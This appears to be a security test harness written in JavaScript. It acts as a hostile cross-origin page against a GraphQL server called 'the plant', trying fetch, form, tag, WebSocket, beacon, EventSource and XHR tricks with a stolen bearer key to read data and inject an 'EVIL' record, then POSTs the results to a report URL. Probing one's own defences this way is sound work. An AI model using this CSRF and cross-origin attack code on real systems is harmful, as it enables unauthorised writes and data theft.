// A page of another site tries to read from and write to the plant at TARGET, with a key that it has somehow got.
"use strict";

const QUERY = "{ sites { code } }";
const MUTATION = `mutation { submitSites(input: {sites: [{code: "EVIL", name: "x", timeZone: "Europe/Stockholm"}]}) { replayed } }`;
const HTTP = `http://${TARGET}`;
const SOCKET = `ws://${TARGET}`;
const KEY = `Bearer ${SECRET}`;
const results = [];

// How an attempt went: what it could read, or why it could not.
const running = [];
function attempt(name, work) {
  running.push(attempted(name, work));
}

async function attempted(name, work) {
  let read = "";
  try {
    read = String((await Promise.race([work(), new Promise((_, no) => setTimeout(no, 3000, "too late"))])) ?? "");
  } catch (error) {
    read = "";
  }
  results.push({ name, read });
}

const json = (query) => JSON.stringify({ query });
const KINDS = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json", "application/graphql"];

async function fetches(where) {
  for (const kind of KINDS) {
    for (const [mode, headers] of [["cors", {}], ["cors", { Authorization: KEY }], ["no-cors", {}]]) {
      for (const query of [QUERY, MUTATION]) {
        attempt(`${where} fetch ${kind} ${mode} ${Object.keys(headers)} ${query.slice(0, 8)}`, async () => {
          const options = { method: "POST", mode, credentials: "include", headers: { "Content-Type": kind, ...headers } };
          return (await fetch(`${HTTP}/graphql`, { ...options, body: json(query) })).text();
        });
      }
    }
  }
}

async function gets(where) {
  const url = `${HTTP}/graphql?query=${encodeURIComponent(QUERY)}`;
  for (const mode of ["cors", "no-cors"]) {
    attempt(`${where} GET ${mode}`, async () => (await fetch(url, { mode, credentials: "include" })).text());
  }
  attempt(`${where} GET with a key`, async () => (await fetch(url, { headers: { Authorization: KEY } })).text());
  for (const [tag, source] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["object", "data"]]) {
    attempt(`${where} GET <${tag}>`, () => new Promise((done, failed) => {
      const element = document.createElement(tag);
      element.onload = () => done(element.contentDocument?.body?.innerText);
      element.onerror = failed;
      element[source] = url;
      document.body.append(element);
    }));
  }
}

async function forms(where) {
  for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    for (const [name, value] of [['{"query": "' + QUERY + '", "x": "', '"}'], ["query", MUTATION], ["operations", json(MUTATION)]]) {
      attempt(`${where} form ${kind} ${name.slice(0, 10)}`, () => new Promise((done) => {
        const frame = document.createElement("iframe");
        frame.name = `f${results.length}`;
        document.body.append(frame);
        const form = document.createElement("form");
        Object.assign(form, { method: "POST", action: `${HTTP}/graphql`, enctype: kind, target: frame.name });
        const input = document.createElement("input");
        Object.assign(input, { name, value });
        form.append(input);
        document.body.append(form);
        frame.onload = () => {
          try {
            done(frame.contentDocument?.body?.innerText);
          } catch {
            done("");
          }
        };
        form.submit();
        setTimeout(done, 1000, "");
      }));
    }
  }
}

async function sockets(where) {
  for (const protocol of ["graphql-transport-ws", "graphql-ws"]) {
    attempt(`${where} socket ${protocol}`, () => new Promise((done, failed) => {
      const socket = new WebSocket(`${SOCKET}/graphql`, protocol);
      socket.onopen = () => socket.send(JSON.stringify({ type: "connection_init", payload: { Authorization: KEY } }));
      socket.onmessage = (message) => done(message.data);
      socket.onerror = failed;
      socket.onclose = failed;
    }));
  }
}

async function others(where) {
  attempt(`${where} beacon`, async () => {
    navigator.sendBeacon(`${HTTP}/graphql`, new Blob([json(MUTATION)], { type: "text/plain" }));
    await new Promise((done) => setTimeout(done, 300));
  });
  attempt(`${where} events`, () => new Promise((done, failed) => {
    const stream = new EventSource(`${HTTP}/graphql/stream?query=${encodeURIComponent("subscription { ledgerAppended { cursor } }")}`, { withCredentials: true });
    stream.onmessage = (message) => done(message.data);
    stream.onopen = () => done("open");
    stream.onerror = failed;
  }));
  attempt(`${where} XHR`, () => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.open("POST", `${HTTP}/graphql`);
    request.setRequestHeader("Content-Type", "text/plain");
    request.onload = () => done(request.responseText);
    request.onerror = failed;
    request.send(json(QUERY));
  }));
}

async function main() {
  for (const part of PARTS) await { fetches, gets, forms, sockets, others }[part](WHERE);
  await Promise.all(running);
  const report = JSON.stringify(results);
  await fetch(REPORT, { method: "POST", mode: "no-cors", body: report });
}

main();
